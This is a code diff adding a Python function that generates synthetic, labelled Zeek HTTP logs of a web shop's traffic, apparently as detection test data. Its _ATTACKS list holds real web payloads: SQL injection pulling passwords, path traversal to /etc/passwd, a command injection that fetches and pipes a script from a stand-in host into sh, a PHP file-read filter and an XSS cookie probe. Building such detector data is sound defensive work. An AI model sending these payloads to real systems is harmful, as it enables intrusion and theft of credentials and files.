@@ -290,3 +290,42 @@ def eve_dns_text(dns_log_text: str, flows: bool = True) -> str:
                 "pkts_toserver": 1, "pkts_toclient": 1, "bytes_toserver": 60 + len(r[9]), "bytes_toclient": 76 + len(r[9]),
                 "start": base["timestamp"], "end": base["timestamp"], "age": 0, "state": "established", "reason": "timeout"}}))
     return "\n".join(out) + "\n"
+
+
+HTTP_FIELDS = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "method", "host", "uri", "status_code", "response_body_len"]
+HTTP_TYPES = ["time", "string", "addr", "port", "addr", "port", "string", "string", "string", "count", "count"]
+_ATTACKS = ["/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "/../../../../../../etc/passwd",
+            "/cgi-bin/status;wget%20http://203.0.113.9/x.sh%20-O-|sh", "/index.php?page=php://filter/convert.base64-encode/resource=config",
+            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"]
+
+
+def http_log(n: int, seed: int = 0, attacks: float = 0.0) -> tuple[str, np.ndarray]:
+    """A Zeek http.log of a web shop's requests (pages, products, searches, static files with hashed names, an
+    API) and whether each is an attack's: an `attacks` share are injections and traversals (_ATTACKS, each
+    with a request id of its own), answered as the shop's pages are."""
+    rng = np.random.default_rng(seed)
+    words = ["shoes", "shirt", "coat", "bag", "hat", "socks", "belt", "watch"]
+    rows, attack = [], np.zeros(n, dtype=bool)
+    for i in range(n):
+        r = rng.random()
+        if rng.random() < attacks:
+            attack[i] = True
+            uri = str(rng.choice(_ATTACKS))
+        elif r < 0.3:
+            uri = f"/products/{rng.integers(1, 5000)}"
+        elif r < 0.5:
+            uri = f"/static/{rng.choice(['js', 'css'])}/app.{rng.integers(1 << 32):08x}.{rng.choice(['js', 'css'])}"
+        elif r < 0.65:
+            uri = f"/search?q={rng.choice(words)}&page={rng.integers(1, 9)}"
+        elif r < 0.8:
+            uri = f"/api/v1/users/{rng.integers(1, 900)}?fields=name,email"
+        elif r < 0.9:
+            uri = f"/images/{rng.choice(words)}-{rng.integers(1, 40)}.png"
+        else:
+            uri = str(rng.choice(["/", "/cart", "/checkout", "/login", "/account/orders"]))
+        rows.append([f"{1.7e9 + i:.6f}", f"C{rng.integers(1 << 40):x}", f"198.51.100.{rng.integers(2, 250)}", int(rng.integers(32768, 61000)),
+                     "10.0.0.80", 443, str(rng.choice(["GET", "GET", "GET", "POST"])), "shop.example.com", uri, 200,
+                     int(rng.integers(200, 30000))])
+    head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", "#path\thttp",
+            "#fields\t" + "\t".join(HTTP_FIELDS), "#types\t" + "\t".join(HTTP_TYPES)]
+    return "\n".join(head + ["\t".join(map(str, r)) for r in rows]) + "\n", attack
